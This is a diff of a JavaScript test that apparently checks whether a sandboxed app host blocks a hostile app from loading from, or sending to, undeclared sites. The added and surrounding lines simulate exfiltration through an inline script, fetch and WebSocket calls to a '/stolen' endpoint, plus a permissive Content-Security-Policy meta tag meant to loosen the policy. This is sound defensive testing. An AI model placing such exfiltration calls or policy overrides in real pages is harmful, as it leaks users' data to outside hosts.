@@ -82,8 +82,10 @@ describe('an app of a hostile server', function () {
 
   it('An app that loads from, or sends to, a site that it didn’t declare', async () => {
     rig.setPage(
-      pageThat(
-        `
+      // Before anything that a policy could be put before.
+      `<script>fetch('${browser.origin}/stolen?first')</script>` +
+        pageThat(
+          `
         const away = '${browser.origin}/stolen?';
         const loaded = (tag, set) => new Promise((resolve) => { const e = document.createElement(tag); e.onload = () => resolve('loaded'); e.onerror = () => resolve('blocked'); set(e); document.body.append(e); });
         return [
@@ -95,9 +97,9 @@ describe('an app of a hostile server', function () {
           await new Promise((resolve) => { const s = new WebSocket(away.replace('http', 'ws')); s.onerror = () => resolve('blocked'); s.onopen = () => resolve('sent'); }),
         ];
       `,
-        // What it says of its own policy can only be more of one.
-        '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
-      ),
+          // What it says of its own policy can only be more of one.
+          '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
+        ),
       { csp: { connectDomains: ['https://api.example.com'] } },
     );
     const drawn = await browser.draw(rig);
